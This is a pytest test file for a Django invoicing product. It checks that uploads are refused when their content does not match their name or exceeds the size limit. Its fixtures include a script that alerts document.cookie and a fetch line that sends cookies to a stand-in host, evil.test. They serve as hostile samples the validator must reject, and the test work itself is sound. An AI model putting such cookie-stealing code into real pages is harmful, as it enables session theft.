"""Every upload of the product is checked by what the file holds, not by its name, and by size.

For each upload path (staff files on customers, invoices and disputes; the portal's documents,
disputes, answers and "I have paid" notice; the company logo; the four spreadsheet imports): a real
file goes through; a web page, a script or a program renamed .pdf/.png/.xlsx is refused with a message
naming the file; a file over UPLOAD_MAX_BYTES is refused; and a refusal leaves no row and no file.
"""

import datetime as dt
import io
import os
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from PIL import Image

from customers.imports import ASSIGN_COLUMNS
from customers.models import Activity, Customer, CustomerFile
from disputes import services as dispute_services
from disputes.models import Dispute, DisputeComment, DisputeReason
from invoices.imports import REQUIRED_COLUMNS
from invoices.models import Payment
from invoices.payment_imports import COLUMNS as PAYMENT_COLUMNS
from peakflo.models import Company, ImportJob
from peakflo.spreadsheets import write_xlsx
from portal.models import PortalMessage
from tests.conftest import PASSWORD
from tests.peakflo.test_settings_company import valid as company_form
from tests.portal.conftest import build_portal_book, sign_in_client

pytestmark = pytest.mark.django_db


def image_bytes(kind="PNG"):
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "#1d4ed8").save(buffer, kind)
    return buffer.getvalue()


PNG = image_bytes()
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
JS = b"fetch('https://evil.test/?c=' + document.cookie);\n"
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    + b"\x00" * 64
    + b"This program cannot be run in DOS mode"
)
DISGUISED = [("invoice.pdf", HTML), ("photo.png", JS), ("statement.xlsx", EXE)]
ATTACHMENT_REFUSED = "is not an accepted kind of file"
IMPORT_REFUSED = "is not an Excel (.xlsx) or CSV file"


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    return tmp_path


def files_in(root):
    return sorted(os.path.relpath(os.path.join(d, f), root) for d, _, names in os.walk(root) for f in names)


@pytest.fixture
def ctx(db, am_alice, am_bob, admin_user, media):
    book = build_portal_book(am_alice, am_bob)
    staff, admin, portal = Client(), Client(), Client()
    assert staff.login(email=am_alice.email, password=PASSWORD)
    assert admin.login(email=admin_user.email, password=PASSWORD)
    sign_in_client(portal, book["ann"])
    reason = DisputeReason.objects.filter(is_retired=False).order_by("pk").first()
    open_dispute = dispute_services.raise_dispute(
        invoice=book["invoices"]["d45"], reason=reason, actor=book["ann"], comment="Wrong quantity"
    )
    return {
        **book,
        "staff": staff,
        "admin": admin,
        "portal": portal,
        "reason": reason,
        "dispute": open_dispute,
    }


def stored():
    company = Company.load()
    return {
        "customer files": CustomerFile.objects.count(),
        "disputes": Dispute.objects.count(),
        "dispute comments": DisputeComment.objects.count(),
        "portal messages": PortalMessage.objects.count(),
        "timeline": Activity.objects.count(),
        "import jobs": ImportJob.objects.count(),
        "customers": Customer.objects.count(),
        "payments": Payment.objects.count(),
        "logo": company.logo.name or "",
        "managers": sorted(Customer.objects.values_list("code", "account_manager__email")),
    }


# --- the upload paths: (name, how to post a file, whether it is an attachment or an import) -----------
def customer_file(c, upload):
    return c["staff"].post(reverse("customer_add_file", args=[c["acme"].pk]), {"file": upload}, follow=True)


def invoice_file(c, upload):
    invoice = c["invoices"]["d15"]
    return c["staff"].post(reverse("invoice_attach", args=[invoice.pk]), {"file": upload}, follow=True)


def staff_dispute(c, upload):
    invoice = c["invoices"]["d75"]
    data = {"reason": c["reason"].pk, "comment": "Short delivery", "file": upload}
    return c["staff"].post(reverse("dispute_raise", args=[invoice.pk]), data, follow=True)


def staff_dispute_comment(c, upload):
    url = reverse("dispute_comment", args=[c["dispute"].pk])
    return c["staff"].post(url, {"body": "", "file": upload}, follow=True)


def portal_document(c, upload):
    url = f"/portal/invoices/{c['invoices']['d15'].pk}/documents/"
    return c["portal"].post(url, {"kind": "proof_of_payment", "file": upload}, follow=True)


def portal_dispute(c, upload):
    url = f"/portal/invoices/{c['invoices']['d15'].pk}/dispute/"
    return c["portal"].post(url, {"reason": c["reason"].pk, "file": upload}, follow=True)


def portal_dispute_answer(c, upload):
    return c["portal"].post(f"/portal/disputes/{c['dispute'].pk}/", {"body": "", "file": upload}, follow=True)


def portal_paid_notice(c, upload):
    data = {
        "amount": "200.00",
        "date": Company.load().today().isoformat(),
        "reference": "TT 1",
        "invoices": [c["invoices"]["d15"].pk],
        "file": upload,
    }
    return c["portal"].post("/portal/pay/bank-transfer/", data, follow=True)


def company_logo(c, upload):
    return c["admin"].post(reverse("settings_company"), company_form(logo=upload), follow=True)


def invoice_import(c, upload):
    return c["admin"].post(reverse("invoices_import"), {"file": upload}, follow=True)


def payment_import(c, upload):
    return c["admin"].post(reverse("payments_import"), {"file": upload}, follow=True)


def customer_upload(c, upload):
    return c["admin"].post(reverse("customers_upload"), {"file": upload}, follow=True)


def mass_assign(c, upload):
    return c["admin"].post(reverse("customers_mass_assign"), {"file": upload}, follow=True)


ATTACHMENT_PATHS = [
    customer_file,
    invoice_file,
    staff_dispute,
    staff_dispute_comment,
    portal_document,
    portal_dispute,
    portal_dispute_answer,
    portal_paid_notice,
]
IMPORT_PATHS = [invoice_import, payment_import, customer_upload, mass_assign]


def real_import(path):
    """A real workbook for each import, one row that the import applies."""
    today = dt.date.today()
    headers, row = {
        invoice_import: (REQUIRED_COLUMNS, ["UP-1", "P-001", today, today + dt.timedelta(days=30), "SGD", 10]),
        payment_import: (PAYMENT_COLUMNS, [today, "P-001", "Acme Pte Ltd", "A-101", 50, "SGD", "Bank transfer", "TT-9"]),
        customer_upload: (["customer ID", "name"], ["N-001", "Newco"]),
        mass_assign: (ASSIGN_COLUMNS, ["P-002", "alice@example.com"]),
    }[path]  # fmt: skip
    return write_xlsx(list(headers), [row])


def text(response):
    return response.content.decode().replace("&#x27;", "'").replace("&quot;", '"')


# --- accepted ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("path", ATTACHMENT_PATHS, ids=lambda p: p.__name__)
@pytest.mark.parametrize(("name", "content"), [("remittance.pdf", PDF), ("whatsapp.png", PNG)])
def test_a_real_attachment_is_kept(ctx, media, path, name, content):
    before = stored()

    response = path(ctx, SimpleUploadedFile(name, content, "application/octet-stream"))

    assert response.status_code == 200
    assert ATTACHMENT_REFUSED not in text(response)
    kept = [f for f in files_in(media) if f.endswith(name)]
    assert len(kept) == 1 and (media / kept[0]).read_bytes() == content
    assert stored() != before


def test_a_real_logo_is_kept(ctx, media):
    response = company_logo(ctx, SimpleUploadedFile("logo.png", PNG, "image/png"))

    assert response.status_code == 200 and ATTACHMENT_REFUSED not in text(response)
    assert Company.load().logo.name.endswith(".png") and len(files_in(media)) == 1


@pytest.mark.parametrize("path", IMPORT_PATHS, ids=lambda p: p.__name__)
def test_a_real_workbook_is_imported(ctx, path):
    response = path(ctx, SimpleUploadedFile("book.xlsx", real_import(path)))

    assert response.status_code == 200 and IMPORT_REFUSED not in text(response)
    if path is invoice_import:
        assert ImportJob.objects.count() == 1
    elif path is payment_import:
        assert Payment.objects.filter(reference="TT-9").count() == 1
    elif path is customer_upload:
        assert Customer.objects.filter(code="N-001", name="Newco").exists()
    else:
        assert Customer.objects.get(code="P-002").account_manager.email == "alice@example.com"


# --- disguised -----------------------------------------------------------------------------------------
@pytest.mark.parametrize("path", ATTACHMENT_PATHS, ids=lambda p: p.__name__)
@pytest.mark.parametrize(("name", "content"), DISGUISED, ids=["html-as-pdf", "js-as-png", "exe-as-xlsx"])
def test_a_disguised_attachment_is_refused_and_nothing_is_kept(ctx, media, path, name, content):
    before, files_before = stored(), files_in(media)

    response = path(ctx, SimpleUploadedFile(name, content, "application/pdf"))

    assert f"{name} {ATTACHMENT_REFUSED}" in text(response)
    assert stored() == before and files_in(media) == files_before


def test_the_message_says_what_the_file_really_is(ctx):
    pages = {name: text(customer_file(ctx, SimpleUploadedFile(name, content))) for name, content in DISGUISED}

    assert "invoice.pdf is not an accepted kind of file: it is not a PDF, an image, an office document " \
           "or plain text but a web page or script." in pages["invoice.pdf"]  # fmt: skip
    assert (
        "photo.png is not an accepted kind of file: it is named .png but holds plain text."
        in pages["photo.png"]
    )
    assert "statement.xlsx is not an accepted kind of file: it is not a PDF, an image, an office document " \
           "or plain text but a Windows program." in pages["statement.xlsx"]  # fmt: skip


def test_a_real_file_renamed_to_another_kind_is_refused(ctx, media):
    page = text(customer_file(ctx, SimpleUploadedFile("contract.pdf", PNG, "application/pdf")))

    assert "contract.pdf is not an accepted kind of file: it is named .pdf but holds a PNG image." in page
    assert CustomerFile.objects.count() == 0 and files_in(media) == []


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("logo.png", HTML, "Upload a valid image"),  # Pillow cannot open it at all
        ("logo.png", image_bytes("GIF"), "logo.png is not an accepted kind of file: it is named .png but holds a GIF image."),
        ("logo.png", image_bytes("BMP"), "logo.png is not an accepted kind of file: it is not a PNG, JPEG, GIF or WebP image but a BMP image."),
        ("logo.png", PDF, "Upload a valid image"),
    ],
)  # fmt: skip
def test_a_logo_that_is_not_an_accepted_image_is_refused(ctx, media, name, content, message):
    before = stored()

    response = company_logo(ctx, SimpleUploadedFile(name, content, "image/png"))

    assert message in text(response)
    assert stored() == before and files_in(media) == []


@pytest.mark.parametrize("path", IMPORT_PATHS, ids=lambda p: p.__name__)
@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        ("invoices.xlsx", HTML, "it holds a web page or script, not a table."),
        ("invoices.pdf", JS, "it holds text but is named .pdf; save it as .csv or as an Excel workbook."),
        ("invoices.xlsx", EXE, "it is neither an Excel workbook nor CSV text but a Windows program."),
        ("invoices.xlsx", PDF, "it is neither an Excel workbook nor CSV text but a PDF."),
        ("invoices.csv", write_xlsx(["customer ID"], [["P-001"]]), "it is an Excel workbook named .csv; name it .xlsx."),
    ],
    ids=["html-as-xlsx", "js-as-pdf", "exe-as-xlsx", "pdf-as-xlsx", "xlsx-as-csv"],
)  # fmt: skip
def test_a_disguised_import_is_refused_and_nothing_changes(ctx, media, path, name, content, why):
    before, files_before = stored(), files_in(media)

    response = path(ctx, SimpleUploadedFile(name, content))

    assert f"{name} {IMPORT_REFUSED}: {why}" in text(response)
    assert stored() == before and files_in(media) == files_before


def test_a_zip_that_is_not_a_workbook_is_refused(ctx):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/workbook.xml", "<not a workbook/>")
    before = stored()

    response = invoice_import(ctx, SimpleUploadedFile("invoices.xlsx", buffer.getvalue()))

    assert f"invoices.xlsx {IMPORT_REFUSED}: it is not a readable Excel workbook." in text(response)
    assert stored() == before


# --- too large -----------------------------------------------------------------------------------------
@pytest.mark.parametrize("path", ATTACHMENT_PATHS + IMPORT_PATHS, ids=lambda p: p.__name__)
def test_a_file_over_the_limit_is_refused_and_nothing_is_kept(ctx, media, settings, path):
    settings.UPLOAD_MAX_BYTES = 64 * 1024
    if path in IMPORT_PATHS:
        name = "big.csv"
        content = (
            ",".join(REQUIRED_COLUMNS) + "\r\n" + "BIG-1,P-001,2026-10-01,2026-10-31,SGD,10\r\n" * 2000
        ).encode()
    else:
        name, content = "scan.pdf", PDF + b"%" + b" " * 70_000 + b"\n%%EOF\n"
    before, files_before = stored(), files_in(media)

    response = path(ctx, SimpleUploadedFile(name, content))

    assert f"{name} is larger than 64 KB (" in text(response)
    assert stored() == before and files_in(media) == files_before


def test_the_default_limit_is_10_mb(ctx, media, settings):
    assert not hasattr(settings, "UPLOAD_MAX_BYTES") or settings.UPLOAD_MAX_BYTES == 10 * 1024 * 1024
    big = PDF + b"%" + b" " * (10 * 1024 * 1024) + b"\n%%EOF\n"

    page = text(customer_file(ctx, SimpleUploadedFile("scan.pdf", big)))

    assert "scan.pdf is larger than 10 MB (10.0 MB): make it smaller or send it in parts." in page
    assert CustomerFile.objects.count() == 0 and files_in(media) == []
    assert "is larger" not in text(customer_file(ctx, SimpleUploadedFile("ok.pdf", big[: 9 * 1024 * 1024])))


def test_the_help_texts_say_the_limit_that_is_set(ctx, settings):
    """Every "up to …" beside a file field follows UPLOAD_MAX_BYTES, not a number written in a template."""
    settings.UPLOAD_MAX_BYTES = 5 * 1024 * 1024
    invoice = ctx["invoices"]["d15"]
    pages = {
        "customer page": ctx["staff"].get(reverse("customer_detail", args=[ctx["acme"].pk])),
        "invoice page": ctx["staff"].get(reverse("invoice_detail", args=[invoice.pk])),
        "raise a dispute": ctx["staff"].get(reverse("dispute_raise", args=[ctx["invoices"]["d75"].pk])),
        "dispute page": ctx["staff"].get(reverse("dispute_detail", args=[ctx["dispute"].pk])),
        "invoice import": ctx["admin"].get(reverse("invoices_import")),
        "portal document": ctx["portal"].get(f"/portal/invoices/{invoice.pk}/documents/"),
    }
    for name, response in pages.items():
        assert response.status_code == 200, name
        page = text(response)
        assert "p to 5 MB" in page, name  # "up to" or "Up to"
        assert "10 MB" not in page, name
